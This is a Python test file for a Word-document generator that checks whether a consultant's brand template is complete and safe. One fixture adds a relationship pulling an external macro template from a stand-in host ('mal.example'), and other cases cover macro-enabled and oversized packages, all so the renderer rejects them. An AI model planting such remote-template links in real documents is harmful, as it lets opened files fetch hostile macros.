"""The brand file: what it must hold, what is refused, what a consultant may change."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pytest
from docx_reader import BRAND, META, W, find, parts, text, tool, xml

from dpia.documents.errors import DocumentError
from dpia.documents.word import render
from dpia.documents.word_styles import STYLES

LINK = '<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://mal.example/m.dotm" TargetMode="External"/>'
RELATIONS = "word/_rels/document.xml.rels"


def _changed(names: str, change: Callable[[str], str], extra: dict[str, bytes] | None = None) -> bytes:
    """Return our brand with the parts whose name matches `names` changed; an empty part is left out."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as package:
        for name, content in parts(BRAND).items():
            new = change(content.decode()) if re.fullmatch(names, name) else content.decode()
            if new:
                package.writestr(name, new)
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return packed.getvalue()


def _swapped(part: str, old: str, new: str) -> bytes:
    return _changed(part, lambda content: re.sub(old, new, content))


def test_the_brand_is_what_the_script_makes() -> None:
    made = tool("fabriquer_marque").parts()
    assert {name: content.decode() for name, content in parts(BRAND).items()} == made, "relancez python outils/fabriquer_marque.py"


@pytest.mark.parametrize("name", list(STYLES))
def test_a_missing_style_is_named_with_its_remedy(name: str) -> None:
    brand = _swapped("word/styles.xml", f'<w:name w:val="{name}"/>', '<w:name w:val="autre"/>')
    with pytest.raises(DocumentError, match=f"style absent : « {re.escape(STYLES[name])} ».*marque.docx") as error:
        render("a", meta=META, brand=brand)
    assert str(error.value).count("«") == 1


REFUSED = {
    "no zip": (b"pas un zip", "ce n'est pas un document Word"),
    "no types": (_swapped(r"\[Content_Types\].xml", "(?s).*", ""), "ne s'ouvre pas"),
    "torn": (_swapped("word/document.xml", "</w:body>", ""), "ne s'ouvre pas"),
    "template": (_swapped(r"\[Content_Types\].xml", "document.main", "template.main"), "ne s'ouvre pas"),
    "macros": (_swapped(r"\[Content_Types\].xml", r"wordprocessingml\.settings", "settings.macroEnabled"), "macros"),
    "heavy": (_changed("", str, {"word/media/x.bin": b"\0" * 50_000_001}), "démesuré"),
    "many": (_changed("", str, {f"x{n}": b"" for n in range(501)}), "démesuré"),
    "elsewhere": (
        _swapped(RELATIONS, "</Relationships>", f"{LINK}</Relationships>"),
        "va chercher « http://mal.example/m.dotm » hors du fichier",
    ),
    "no bullet": (_swapped("word/styles.xml", "<w:numPr>.*?</w:numPr>", ""), "« Liste à puces » n'a ni puce ni numéro"),
    "no list": (_swapped("word/numbering.xml", "<w:num .*</w:num>", ""), "la numérotation . n'existe pas"),
    "no page": (_swapped("word/document.xml", "<w:sectPr>.*</w:sectPr>", ""), "aucune mise en page"),
    "no size": (_swapped("word/document.xml", "<w:pgSz[^>]*>", ""), "ni format de page ni marges"),
    "no styles": (_swapped(RELATIONS, r'<Relationship [^>]*Target="styles.xml"/>', ""), "partie « styles » absente"),
    "no numbering": (_swapped(RELATIONS, r'<Relationship [^>]*Target="numbering.xml"/>', ""), "partie « numbering » absente"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_brand_that_cannot_serve_is_refused(case: str) -> None:
    brand, message = REFUSED[case]
    with pytest.raises(DocumentError, match=f"^marque : .*{message}"):
        render("# t\n\n- a\n\n1. b", meta=META, brand=brand)


@pytest.mark.parametrize(
    ("place", "expected"),
    [
        ("<w:p><w:r><w:t>[co</w:t></w:r><w:r><w:t>rps]</w:t></w:r></w:p>", ["Avant", "ici", "Après"]),
        ("", ["Avant", "Après", "ici"]),
    ],
)
def test_a_brand_keeps_its_own_text_around_ours(place: str, expected: list[str]) -> None:
    body = f"<w:body><w:p><w:r><w:t>Avant</w:t></w:r></w:p>{place}<w:p><w:r><w:t>Après</w:t></w:r></w:p><w:sectPr>"
    brand = _swapped("word/document.xml", "<w:body>.*<w:sectPr>", body)
    assert [text(p) for p in find(xml(render("ici", meta=META, brand=brand)), ".//w:p")] == expected


def test_a_placeholder_that_word_cut_in_two_is_found() -> None:
    cut = "<w:r><w:t>[en-</w:t></w:r><w:r><w:t>tête] et [titre]</w:t></w:r>"
    brand = _swapped("word/header1.xml", "<w:r>.*</w:r>", cut)
    assert text(xml(render("a", meta=META, brand=brand), "word/header1.xml")) == "En haut et Analyse d'impact"


def test_a_brand_without_the_recent_namespaces_is_completed() -> None:
    brand = _swapped("word/document.xml", ' xmlns:w14="[^"]*"| mc:Ignorable="w14"', "")
    assert find(xml(render("- [ ] a", meta=META, brand=brand)), ".//w14:checkbox")


def test_a_brand_without_footnotes_gets_them() -> None:
    def without(content: str) -> str:
        if "<w:footnotes" in content:
            return ""
        return re.sub(r'<w:footnotePr>.*</w:footnotePr>|<(?:Override|Relationship) [^>]*footnotes.xml"[^>]*/>', "", content)

    content = render("a[^n]\n\n[^n]: note", meta=META, brand=_changed(".*", without))
    assert text(xml(content, "word/footnotes.xml")).strip() == "note"
    order = [child.tag.removeprefix(W) for child in xml(content, "word/settings.xml")]
    assert order.index("footnotePr") == order.index("compat") - 1
    assert b"/word/footnotes.xml" in parts(content)["[Content_Types].xml"]


def test_a_brand_that_does_not_number_headings_gives_no_numbers() -> None:
    brand = _swapped("word/styles.xml", r'(w:name w:val="heading \d"/>.*?)<w:numPr>.*?</w:numPr>', r"\1")
    root = xml(render("```sommaire\n```\n# a\n## b {-}", meta=META, brand=brand))
    assert [text(link) for link in find(root, ".//w:hyperlink")] == ["a", "b"]
    assert not find(root, ".//w:numPr")
